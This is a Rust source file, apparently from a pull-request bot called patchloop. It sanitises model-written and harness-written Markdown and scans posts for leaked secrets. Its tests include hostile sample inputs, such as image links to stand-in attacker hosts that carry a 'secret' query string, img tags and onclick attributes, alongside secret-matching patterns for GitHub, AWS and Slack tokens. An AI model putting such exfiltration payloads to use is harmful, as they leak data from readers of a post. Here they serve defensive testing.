//! Pure rendering of what patchloop posts: the hidden marker, sanitising of model-written
//! text, the secret-pattern scan, and fenced blocks.

use std::sync::LazyLock;

use regex::Regex;
use sha2::{Digest, Sha256};

/// Start of the hidden marker carried by everything patchloop posts.
pub const MARKER_PREFIX: &str = "<!-- patchloop:v1 ";

/// The idempotency key: one attempt per (repository, failing SHA).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Marker {
    pub repo: String,
    pub sha: String,
    pub pr: Option<u64>,
    /// sha256 of the patch (first 16 hex), or `none`.
    pub patch: String,
}

impl Marker {
    pub fn new(repo: &str, sha: &str, pr: Option<u64>, patch: &str) -> Marker {
        let patch = if patch.is_empty() {
            "none".to_string()
        } else {
            let h = Sha256::digest(patch.as_bytes());
            hex::encode(h)[..16].to_string()
        };
        Marker {
            repo: repo.to_string(),
            sha: sha.to_string(),
            pr,
            patch,
        }
    }

    /// What identifies the attempt (without the patch hash): search comments for this.
    pub fn key(&self) -> String {
        format!("{MARKER_PREFIX}repo={} sha={} ", self.repo, self.sha)
    }

    pub fn render(&self) -> String {
        let pr = self.pr.map(|n| n.to_string()).unwrap_or_else(|| "-".into());
        format!("{}pr={pr} patch={} -->", self.key(), self.patch)
    }
}

/// Whether `body` carries a marker with the given key.
pub fn has_marker(body: &str, key: &str) -> bool {
    body.contains(key)
}

static URL: LazyLock<Option<Regex>> =
    LazyLock::new(|| Regex::new(r"(?i)\b(?:https?|ftp|data|javascript)://\S+|\bdata:[^\s)]+").ok());
static MD_IMAGE: LazyLock<Option<Regex>> =
    LazyLock::new(|| Regex::new(r"!\[([^\]]*)\]\([^)]*\)").ok());
static MD_LINK: LazyLock<Option<Regex>> =
    LazyLock::new(|| Regex::new(r"\[([^\]]*)\]\([^)]*\)").ok());
static HTML_TAG: LazyLock<Option<Regex>> = LazyLock::new(|| Regex::new(r"</?[A-Za-z!][^>]*>").ok());
static MENTION: LazyLock<Option<Regex>> =
    LazyLock::new(|| Regex::new(r"(^|[^A-Za-z0-9`])@([A-Za-z0-9][A-Za-z0-9-]*)").ok());
static ISSUE_REF: LazyLock<Option<Regex>> =
    LazyLock::new(|| Regex::new(r"(?i)\b(close[sd]?|fix(e[sd])?|resolve[sd]?)(\s*:?\s+)#").ok());

fn rep(re: &LazyLock<Option<Regex>>, s: &str, with: &str) -> String {
    match re.as_ref() {
        Some(r) => r.replace_all(s, with).into_owned(),
        None => s.to_string(),
    }
}

/// Sanitise model-written prose before it goes into a post: no images, links, URLs or raw
/// HTML (an exfiltration channel), `@` mentions neutralised, slash commands at a line start
/// escaped (no self-trigger), closing keywords defused.
pub fn sanitize_prose(text: &str) -> String {
    let s = rep(&MD_IMAGE, text, "[image removed]");
    let s = rep(&MD_LINK, &s, "$1");
    let s = rep(&URL, &s, "[link removed]");
    let s = rep(&HTML_TAG, &s, "");
    // A zero-width joiner after `@` keeps the text readable but pings no one.
    let s = rep(&MENTION, &s, "$1@\u{200d}$2");
    let s = rep(&ISSUE_REF, &s, "$1$3#\u{200d}");
    s.lines()
        .map(|l| {
            let t = l.trim_start();
            if t.starts_with('/') {
                format!("\u{200b}{l}")
            } else {
                l.to_string()
            }
        })
        .collect::<Vec<_>>()
        .join("\n")
}

/// Code-span content that must not be trusted to stay code: if a renderer disagreed about
/// where the span ends, this would be a link, an image, a mention or a fetching tag.
static RISKY_CODE: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(
        r"(?i)://|@|\]\(|!\[|\bdata:|\bwww\.|<\s*/?\s*(?:img|a|picture|source|video|audio|iframe|object|embed|svg|image|input|form|link|meta|base|style|script|details|summary)\b",
    )
    .ok()
});

static MENTION_ANY: LazyLock<Option<Regex>> =
    LazyLock::new(|| Regex::new(r"(^|[^A-Za-z0-9])@([A-Za-z0-9][A-Za-z0-9-]*)").ok());

/// Tags harness-written Markdown may keep (exactly these, without attributes).
const ALLOWED_TAGS: [&str; 4] = ["<details>", "</details>", "<summary>", "</summary>"];

/// Prose of harness-written Markdown: the model-text rules, except that `<` is escaped
/// (`&lt;` reads as `<` once rendered) instead of the tag being removed.
fn sanitize_md_prose(text: &str) -> String {
    let s = rep(&MD_IMAGE, text, "[image removed]");
    let s = rep(&MD_LINK, &s, "$1");
    let s = rep(&URL, &s, "[link removed]");
    // Unlike model prose, a backtick before `@` is no excuse here: it is literal text.
    let s = rep(&MENTION_ANY, &s, "$1@\u{200d}$2");
    let s = rep(&ISSUE_REF, &s, "$1$3#\u{200d}");
    let mut out = String::with_capacity(s.len());
    let mut rest = s.as_str();
    while let Some(i) = rest.find('<') {
        out.push_str(&rest[..i]);
        let tail = &rest[i..];
        match ALLOWED_TAGS.iter().find(|t| tail.starts_with(**t)) {
            Some(t) => {
                out.push_str(t);
                rest = &tail[t.len()..];
            }
            None => {
                out.push_str("&lt;");
                rest = &tail[1..];
            }
        }
    }
    out.push_str(rest);
    out
}

/// Sanitise harness-written Markdown (the verification receipt) so that it reads as written:
/// single-backtick code spans on one line are kept verbatim (GitHub renders their content
/// literally, so `<harness ini>` stays `<harness ini>`) unless their content could be a link,
/// image, mention or fetching tag were the span not a span; the prose around them gets the
/// model-text rules with `<` escaped, and only `<details>`/`<summary>` survive as HTML. The
/// receipt carries repository-controlled strings (test ids, paths), so it is never posted raw.
pub fn sanitize_markdown(text: &str) -> String {
    text.lines()
        .map(|line| {
            let chars: Vec<char> = line.chars().collect();
            let mut out = String::new();
            let mut prose = String::new();
            let mut i = 0;
            while i < chars.len() {
                if chars[i] != '`' {
                    prose.push(chars[i]);
                    i += 1;
                    continue;
                }
                let run = chars[i..].iter().take_while(|c| **c == '`').count();
                let escaped = i > 0 && chars[i - 1] == '\\';
                if run == 1 && !escaped {
                    // The closer: the next backtick, if it is a run of exactly one.
                    if let Some(off) = chars[i + 1..].iter().position(|c| *c == '`') {
                        let j = i + 1 + off;
                        let single = chars.get(j + 1) != Some(&'`');
                        let content: String = chars[i + 1..j].iter().collect();
                        let risky = RISKY_CODE.as_ref().is_none_or(|r| r.is_match(&content));
                        if single && !content.trim().is_empty() && !risky {
                            out.push_str(&sanitize_md_prose(&prose));
                            prose.clear();
                            out.push('`');
                            out.push_str(&content);
                            out.push('`');
                            i = j + 1;
                            continue;
                        }
                    }
                }
                prose.extend(std::iter::repeat_n('`', run));
                i += run;
            }
            out.push_str(&sanitize_md_prose(&prose));
            if out.trim_start().starts_with('/') {
                format!("\u{200b}{out}")
            } else {
                out
            }
        })
        .collect::<Vec<_>>()
        .join("\n")
}

static SECRETS: LazyLock<Vec<(&'static str, Option<Regex>)>> = LazyLock::new(|| {
    [
        ("GitHub token", r"\bgh[pousr]_[A-Za-z0-9]{30,}"),
        (
            "GitHub fine-grained token",
            r"\bgithub_pat_[A-Za-z0-9_]{40,}",
        ),
        ("API key (sk-…)", r"\bsk-[A-Za-z0-9_-]{20,}"),
        ("AWS access key", r"\b(?:AKIA|ASIA)[0-9A-Z]{16}\b"),
        ("private key", r"-----BEGIN [A-Z ]*PRIVATE KEY-----"),
        ("Slack token", r"\bxox[abposr]-[A-Za-z0-9-]{10,}"),
    ]
    .into_iter()
    .map(|(n, p)| (n, Regex::new(p).ok()))
    .collect()
});

/// The first secret-like pattern in `text`, by kind (never the value).
pub fn find_secret(text: &str) -> Option<&'static str> {
    SECRETS
        .iter()
        .find(|(_, re)| re.as_ref().is_some_and(|r| r.is_match(text)))
        .map(|(n, _)| *n)
}

/// A code fence longer than any backtick run in `content`, so the content cannot close it.
pub fn fence_for(content: &str) -> String {
    let mut longest = 0;
    let mut run = 0;
    for c in content.chars() {
        if c == '`' {
            run += 1;
            longest = longest.max(run);
        } else {
            run = 0;
        }
    }
    "`".repeat((longest + 1).max(3))
}

/// A fenced block with an info string.
pub fn fenced(info: &str, content: &str) -> String {
    let f = fence_for(content);
    let nl = if content.is_empty() || content.ends_with('\n') {
        ""
    } else {
        "\n"
    };
    format!("{f}{info}\n{content}{nl}{f}")
}

static ENDPOINT: LazyLock<Option<Regex>> =
    LazyLock::new(|| Regex::new(r"\s+at\s+[A-Za-z][A-Za-z0-9+.-]*://\S+").ok());

/// The model as posts name it: an inline code span without its endpoint (a service URL is
/// nobody's business on a pull request), e.g. `` `ollama:qwen2.5-coder:7b` ``. Empty when
/// the model is unknown.
pub fn model_label(describe: &str) -> String {
    let s = rep(&ENDPOINT, describe.trim(), "");
    let s = sanitize_prose(&s.replace('`', "'")).replace('\n', " ");
    if s.trim().is_empty() {
        String::new()
    } else {
        format!("`{}`", s.trim())
    }
}

/// A harness-written one-line reason as posts show it: without endpoints, sanitised, on
/// one line.
pub fn reason_line(reason: &str) -> String {
    let s = rep(&ENDPOINT, reason.trim(), "");
    sanitize_prose(&s).replace('\n', " ")
}

/// Redact a token from any text that may be logged.
pub fn redact(text: &str, secret: &str) -> String {
    if secret.len() < 8 {
        return text.to_string();
    }
    text.replace(secret, "***")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn model_labels_drop_the_endpoint() {
        assert_eq!(
            model_label("ollama:qwen2.5-coder:7b at http://ollama:11434"),
            "`ollama:qwen2.5-coder:7b`"
        );
        assert_eq!(
            model_label("openai:gpt-x at https://h/v1 (tool_choice Auto)"),
            "`openai:gpt-x (tool_choice Auto)`"
        );
        assert_eq!(
            model_label("scripted:/t/fix.yaml (a scripted test double, not a real model: 5 turns)"),
            "`scripted:/t/fix.yaml (a scripted test double, not a real model: 5 turns)`"
        );
        assert_eq!(model_label("a`b\n@c"), "`a'b @\u{200d}c`");
        assert_eq!(model_label(" "), "");
    }

    #[test]
    fn marker_roundtrip_and_key() {
        let m = Marker::new("o/r", "abc", Some(2), "diff");
        let r = m.render();
        assert!(r.starts_with(MARKER_PREFIX) && r.ends_with("-->"));
        assert!(has_marker(&format!("x\n{r}"), &m.key()));
        let other = Marker::new("o/r", "abcd", Some(2), "diff");
        assert!(!has_marker(&r, &other.key()));
        assert_eq!(Marker::new("o/r", "s", None, "").patch, "none");
    }

    #[test]
    fn sanitize_strips_exfiltration_channels() {
        let s = sanitize_prose(
            "see ![x](https://attacker/?d=secret) and [here](http://evil.example) or \
             https://evil.example/a <img src=x> cc @octocat\n/patchloop fix\nFixes #1",
        );
        assert!(!s.contains("http"), "{s}");
        assert!(!s.contains("attacker"), "{s}");
        assert!(!s.contains("<img"), "{s}");
        assert!(!s.contains("@octocat"), "{s}");
        assert!(!s.lines().any(|l| l.starts_with("/patchloop")), "{s}");
        assert!(!s.contains("Fixes #1"), "{s}");
        assert!(s.contains("here"));
    }

    #[test]
    fn receipts_read_as_written() {
        let golden = include_str!("../verify/testdata/receipt.md");
        let cmd = "- command: `python3 -I -B -c <pl_run.py: sys.path += [/work]> pytest -c \
                   <harness ini> --rootdir /work -p pl_guard --junitxml <harness path>`";
        for md in [golden.to_string(), format!("{golden}\n{cmd}")] {
            assert_eq!(sanitize_markdown(&md), md.trim_end_matches('\n'));
        }
        // Text outside code reads the same once rendered.
        assert_eq!(sanitize_markdown("a <b> c"), "a &lt;b> c");
    }

    #[test]
    fn receipts_carry_no_exfiltration_channel() {
        for hostile in [
            "| `<img src=https://evil/x>` | fail→pass |",
            "<img src=x title=\"`\">`",
            "`a``b`<img src=https://evil/y>`c`",
            "[click](`https://evil/z`)",
            "`@admin` and @admin",
            "![x](https://evil/i.png) <a href=\"https://evil\">x</a> <details open onclick=x>",
            "\\`<img src=https://evil/w>`",
            "/patchloop fix",
        ] {
            let s = sanitize_markdown(hostile);
            assert!(
                !s.contains("<img") && !s.contains("<a "),
                "{hostile} -> {s}"
            );
            assert!(!s.contains("https://evil"), "{hostile} -> {s}");
            assert!(!s.contains("@admin"), "{hostile} -> {s}");
            assert!(!s.contains("<details open"), "{hostile} -> {s}");
            assert!(!s.starts_with('/'), "{hostile} -> {s}");
        }
    }

    #[test]
    fn secrets_are_found_by_kind() {
        assert_eq!(
            find_secret("token ghp_0123456789abcdefghijABCDEFGHIJ0123456789"),
            Some("GitHub token")
        );
        assert_eq!(
            find_secret("key AKIAABCDEFGHIJKLMNOP"),
            Some("AWS access key")
        );
        assert_eq!(
            find_secret("-----BEGIN OPENSSH PRIVATE KEY-----"),
            Some("private key")
        );
        assert_eq!(
            find_secret("sk-live_abcdefghijklmnopqrstuvwx"),
            Some("API key (sk-…)")
        );
        assert_eq!(find_secret("an ordinary diff\n+x = 1"), None);
    }

    #[test]
    fn fences_outgrow_content() {
        assert_eq!(fence_for("a"), "```");
        assert_eq!(fence_for("```x```"), "````");
        assert_eq!(fenced("diff", "+a"), "```diff\n+a\n```");
    }
}
